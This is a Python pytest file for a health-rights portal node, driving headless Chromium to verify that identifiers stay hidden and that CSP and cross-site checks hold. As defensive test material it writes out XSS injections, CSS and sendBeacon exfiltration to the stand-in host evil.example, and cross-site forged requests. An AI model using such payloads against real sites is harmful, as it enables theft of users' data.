"""Chromium as the client of a portal: a form on the portal's page asks, a node answers with a page, and it is shown.

The node is reached over TLS as `https://droits.example`, with the token in a `__Host-` cookie. Headless Chromium shows
no client certificate, so a relay below HTTP adds the one of the practitioner's card: it passes bytes, and offers the
browser what the node has chosen in ALPN. As `https://direct.example` the browser asks the node itself.
"""

import asyncio
import json
import re
import ssl
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Final

import pytest

from browser import Browser, Page, chromium
from certificates import CLIENT
from node import MTLS, RunningNode, running_node
from reference import PAGE_EXAMPLE
from tokens import ORIGIN
from wire import RawUpstream, http_answer, raw_upstream

pytestmark = [pytest.mark.real]

PORTAL: Final = "https://portail.droits.example"
STRANGER: Final = "https://evil.example"
COOKIE: Final = "__Host-paravent"
SETTINGS: Final = f'[portal]\ncookie = "{COOKIE}"\norigins = ["{PORTAL}"]\n'

NIR: Final = "292112B993001"
NUMBERS: Final = (NIR, "292112b993001", "1910192990110", "CTR-2026")
"""Of those on the API's page: nothing of it may be in a document."""
HANDLE: Final = re.compile(r"h1\.[A-Za-z0-9_-]{44}")
QUESTION: Final = {"immatriculation": NIR, "dateNaissance": "19921101", "rangGemellaire": "1"}

FIELDS: Final = "".join(f'<input name="{name}" value="{value}">' for name, value in QUESTION.items())
FORM: Final = f'<!DOCTYPE html><form method="post" action="{ORIGIN}/portail/droits">{FIELDS}</form>'.encode()

HOSTILE: Final = f"""<script>window.ran = 1; document.title = "ran"; new Image().src = "{STRANGER}/script"</script>
<img src="{STRANGER}/image" onerror="window.ran = 1"><iframe src="{STRANGER}/frame"></iframe>
<meta http-equiv="refresh" content="0; url={STRANGER}/refresh"><base href="{STRANGER}/">
<svg onload="window.ran = 1"></svg><link rel="stylesheet" href="{STRANGER}/style">
<link rel="prefetch" href="{STRANGER}/prefetch"><body onload="window.ran = 1">""".encode()
"""What a page of the API that somebody has broken into could hold."""

ACTIVE: Final = "script, img, iframe, svg, form, base, meta[http-equiv], [onclick], [onerror], [onload], [style]"

STYLE: Final = f"""@import url("{STRANGER}/import"); td {{ color: rgb(1, 2, 3); background: url("{STRANGER}/paint") }}
@font-face {{ font-family: x; src: url("{STRANGER}/font") }} td {{ font-family: x }}""".encode()


def spoilt_page() -> bytes:
    """The portal's page, and the worst at its start, in a cell and at its end."""
    cell = b"<td>LAU<b onclick='window.ran = 1'>REN</b><img src=x onerror='window.ran = 1'>CE</td>"
    page = PAGE_EXAMPLE.replace(b"<body>", b"<body>" + HOSTILE).replace(b"<td>LAURENCE</td>", cell)
    assert cell in page
    return page.replace(b"</body>", HOSTILE + b"</body>")


def api(_count: int, request: bytes) -> bytes:
    if request.startswith(b"GET /portail/droits.css "):
        return http_answer(STYLE, content_type=b"text/css")
    return http_answer(spoilt_page(), content_type=b"text/html; charset=utf-8", extra=b"Set-Cookie: a=b\r\n")


@dataclass(slots=True)
class Reader:
    """The relay."""

    port: int = 0
    received: bytearray = field(default_factory=bytearray)
    """Every byte of the node's, as the browser got it."""


@asynccontextmanager
async def card_reader(node: RunningNode, card: ssl.SSLContext) -> AsyncIterator[Reader]:
    """TLS on both sides, with the card's certificate towards the node; in between, bytes."""
    reader, server = Reader(), server_side(node.sandbox.folder)
    card.set_alpn_protocols(["h2", "http/1.1"])
    _, trial = await asyncio.open_connection("127.0.0.1", node.port, ssl=card, server_hostname="localhost")
    server.set_alpn_protocols([str(trial.get_extra_info("ssl_object").selected_alpn_protocol())])
    trial.transport.abort()

    async def passed(source: asyncio.StreamReader, sink: asyncio.StreamWriter, kept: bytearray) -> None:
        try:
            while data := await source.read(65536):
                kept += data
                sink.write(data)
                await sink.drain()
        except (ConnectionError, ssl.SSLError):
            pass
        finally:
            sink.transport.abort()

    async def serve(source: asyncio.StreamReader, sink: asyncio.StreamWriter) -> None:
        answers, questions = await asyncio.open_connection(
            "127.0.0.1", node.port, ssl=card, server_hostname="localhost"
        )
        await asyncio.gather(passed(source, questions, bytearray()), passed(answers, sink, reader.received))

    relay = await asyncio.start_server(serve, "127.0.0.1", 0, ssl=server)
    reader.port = relay.sockets[0].getsockname()[1]
    try:
        yield reader
    finally:
        relay.close()


def server_side(folder: Path) -> ssl.SSLContext:
    """Of everybody in the scene: one certificate, which the browser trusts by its key."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(folder / "server.pem", folder / "server.key")
    return context


@dataclass(slots=True)
class Scene:
    """All who take part."""

    browser: Browser
    reader: Reader
    node: RunningNode
    api: RawUpstream
    stranger: RawUpstream
    folder: Path

    async def answered(self, number: str = NIR) -> Page:
        """The page that the portal's form leads to."""
        page = await self.browser.open(f"{PORTAL}/")
        await page.leave(f"document.forms[0].immatriculation.value = '{number}'; document.forms[0].submit()")
        return page

    def reasons(self) -> list[object]:
        """Why operations were refused. A preflight and the search for an icon name none."""
        return [record["reason"] for record in self.node.records() if record.get("operation") and "reason" in record]

    def strangers_visits(self) -> list[bytes]:
        """Paths that the stranger was asked for, beside their own page."""
        paths = [request.split(b" ")[1] for request in self.stranger.requests]
        return [path for path in paths if path not in {b"/", b"/favicon.ico"}]


@pytest.fixture
async def scene(tmp_path: Path) -> AsyncIterator[Scene]:
    """A practitioner who has logged in to the portal, with their card in the reader."""
    async with raw_upstream(api) as upstream, running_node(tmp_path, upstream.port, listen=MTLS, more=SETTINGS) as node:
        card = node.sandbox.authority.issue("card", use=CLIENT)
        token = node.request(x5t=card.x5t).partition(b"Bearer ")[2].partition(b"\r\n")[0].decode()
        html = b"text/html; charset=utf-8"
        portal_page, strangers_page = (
            http_answer(page, content_type=html) for page in (FORM, b"<!DOCTYPE html><p>evil")
        )
        async with (
            raw_upstream(portal_page, tls=server_side(tmp_path)) as portal,
            raw_upstream(strangers_page, tls=server_side(tmp_path)) as stranger,
            card_reader(node, node.sandbox.tls((card.certificate, card.key))) as reader,
        ):
            hosts = {"droits.example": reader.port, "direct.example": node.port}
            hosts |= {"portail.droits.example": portal.port, "evil.example": stranger.port}
            async with chromium(tmp_path, hosts, [tmp_path / "server.pem"]) as browser:
                await browser.set_cookie(f"{ORIGIN}/", COOKIE, token)
                yield Scene(browser, reader, node, upstream, stranger, tmp_path)


async def test_the_page_holds_no_number_and_nothing_of_the_api_runs(scene: Scene) -> None:
    """As the browser has it once all has run: the person's row with a handle, styled, and nobody asked but us."""
    page = await scene.answered()
    document = await page.document()
    (handle,) = HANDLE.findall(document)
    assert await page.run("[...document.querySelectorAll('#personnes td')].map(cell => cell.innerText)") == [
        "LE GALL-ESSAI",
        "LAURENCE",
        "19921101",
        handle,
        "oui",
    ]
    for number in NUMBERS:
        assert number not in document
        assert number.encode() not in scene.reader.received
    assert await page.run(f"document.querySelectorAll('{ACTIVE}').length") == 0
    assert await page.run("[window.ran, document.title, document.cookie]") == [None, "Droits", ""]
    assert await page.run("getComputedStyle(document.querySelector('td')).color") == "rgb(1, 2, 3)"
    assert scene.strangers_visits() == []
    assert [request.split(b" ")[1] for request in scene.api.requests] == [b"/portail/droits", b"/portail/droits.css"]
    assert NIR.encode() not in scene.node.ledger()
    assert NIR not in scene.node.logs.getvalue()


async def test_a_form_asks_on_with_the_handle(scene: Scene) -> None:
    """The API is asked by number again, and the second page has none either."""
    (handle,) = HANDLE.findall(await (await scene.answered()).document())
    again = await scene.answered(handle)
    assert "LAURENCE" in await again.document()
    questions = [request for request in scene.api.requests if request.startswith(b"POST")]
    assert [NIR.encode() in question for question in questions] == [True, True]
    assert NIR.encode() not in scene.reader.received


FRAMED: Final = """(async () => {
  const frame = Object.assign(document.createElement("iframe"), {name: "framed"});
  document.body.append(frame);
  const shown = new Promise(done => frame.addEventListener("load", done, {once: true}));
  document.forms[0].target = "framed";
  document.forms[0].submit();
  await shown;
})()"""
"""The portal's form, answered in a frame of the portal's page. A frame has loaded when its style sheets have."""


async def test_no_page_shows_an_answer_in_a_frame(scene: Scene) -> None:
    """The answer arrives, and the browser shows it nowhere: its style sheet is not asked for."""
    page = await scene.browser.open(f"{PORTAL}/")
    await page.run(FRAMED)
    assert scene.reasons() == [None]
    assert [request.split(b" ")[1] for request in scene.api.requests] == [b"/portail/droits"]


INTRUDER: Final = f"""(async () => {{
  const seen = new Set();
  document.addEventListener("securitypolicyviolation", event => seen.add(event.effectiveDirective));
  const element = (name, members) => document.body.append(Object.assign(document.createElement(name), members));
  element("script", {{textContent: "window.ran = 1"}});
  element("script", {{src: "{STRANGER}/script"}});
  element("img", {{src: "{STRANGER}/image"}});
  element("iframe", {{src: "{STRANGER}/frame"}});
  element("link", {{rel: "stylesheet", href: "{STRANGER}/style"}});
  element("style", {{textContent: "td {{ color: red }}"}});
  element("form", {{method: "post", action: "{STRANGER}/form", id: "leak"}});
  document.getElementById("leak").submit();
  const read = await fetch("{STRANGER}/fetch", {{mode: "no-cors"}}).then(() => "sent", error => error.name);
  navigator.sendBeacon("{STRANGER}/beacon", document.body.innerText);
  for (let look = 0; look < 500 && seen.size < 6; look++) await new Promise(done => setTimeout(done, 10));
  return [[...seen].sort(), read, window.ran ?? null];
}})()"""
"""What a script would try that had got into our page."""


async def test_the_browser_holds_our_page_to_our_headers(scene: Scene) -> None:
    """Content-Security-Policy stops what would run or send; no-store keeps the page off the disk; one protocol."""
    page = await scene.answered()
    seen, read, ran = await page.run(INTRUDER)
    assert set(seen) >= {"connect-src", "form-action", "frame-src", "img-src", "script-src-elem", "style-src-elem"}
    assert (read, ran) == ("TypeError", None)
    assert scene.strangers_visits() == []
    ours = [response for response in page.responses if response["url"].startswith(f"{ORIGIN}/portail/")]
    assert len(ours) == 2
    for response in ours:
        assert response["protocol"] == "http/1.1"
        assert response["headers"]["Cache-Control"] == "no-store"
        assert response["headers"]["X-Content-Type-Options"] == "nosniff"
    await scene.browser.close()
    files = [path for path in (scene.folder / "profile").rglob("*") if path.is_file()]
    assert len(files) > 10
    assert [path.name for path in files if b"LE GALL-ESSAI" in path.read_bytes()] == []


async def test_without_a_card_the_browser_is_told_to_log_in(scene: Scene) -> None:
    """Straight at the node, which speaks HTTP/1.1 though Chromium offers more, over TLS 1.3."""
    page = await scene.browser.open("https://direct.example/portail/droits.css")
    (response, *_) = page.responses
    assert (response["status"], response["protocol"]) == (401, "http/1.1")
    assert response["securityDetails"]["protocol"] == "TLS 1.3"
    assert scene.api.requests == []


QUERY: Final = json.dumps(QUESTION)
ATTACKS: Final = {
    "a form of theirs, sent unseen": f"""fetch("{ORIGIN}/portail/droits", {{method: "POST", mode: "no-cors",
        credentials: "include", body: new URLSearchParams({QUERY})}}).then(answer => answer.type)""",
    "a question whose answer they would read": f"""fetch("{ORIGIN}/portail/droits", {{method: "POST",
        credentials: "include", body: new URLSearchParams({QUERY})}}).then(() => "read", error => error.name)""",
    "a style sheet of ours in their page": f"""new Promise(done => document.head.append(Object.assign(
        document.createElement("link"), {{rel: "stylesheet", href: "{ORIGIN}/portail/droits.css",
        onload: () => done("loaded"), onerror: () => done("refused")}})))""",
    "a script of ours in their page": f"""new Promise(done => document.head.append(Object.assign(
        document.createElement("script"), {{src: "{ORIGIN}/portail/droits.css",
        onload: () => done("loaded"), onerror: () => done("refused")}})))""",
}
GOT: Final = ["opaque", "TypeError", "refused", "refused"]


async def test_a_strangers_page_gets_nothing_with_the_practitioners_cookie(scene: Scene) -> None:
    """The browser sends it, with Sec-Fetch-Site and Origin: refused for that, and the API is not asked."""
    page = await scene.browser.open(f"{STRANGER}/")
    for (attack, script), got in zip(ATTACKS.items(), GOT, strict=True):
        assert await page.run(script) == got, attack
    assert (
        await page.run(
            f"""fetch("{ORIGIN}/v1/droits/consultation", {{method: "POST", credentials: "include", body: "{{}}",
        headers: {{"content-type": "application/json"}}}}).then(() => "read", error => error.name)"""
        )
        == "TypeError"
    )
    fields = "".join(f"<input name={name} value={value}>" for name, value in QUESTION.items())
    await page.run(f"document.body.innerHTML = `<form method=post action={ORIGIN}/portail/droits>{fields}</form>`")
    await page.leave("document.forms[0].submit()")
    assert json.loads(await page.run("document.body.innerText"))["status"] == 401
    assert scene.reasons() == ["token_cross_site"] * 5
    assert scene.api.requests == []


async def test_an_address_that_somebody_types_asks_nothing(scene: Scene) -> None:
    """Nor a link in a mail: no page of the portal made that request."""
    page = await scene.browser.open(f"{ORIGIN}/portail/droits.css")
    assert page.responses[0]["status"] == 401
    assert scene.reasons() == ["token_cross_site"]
    assert scene.api.requests == []
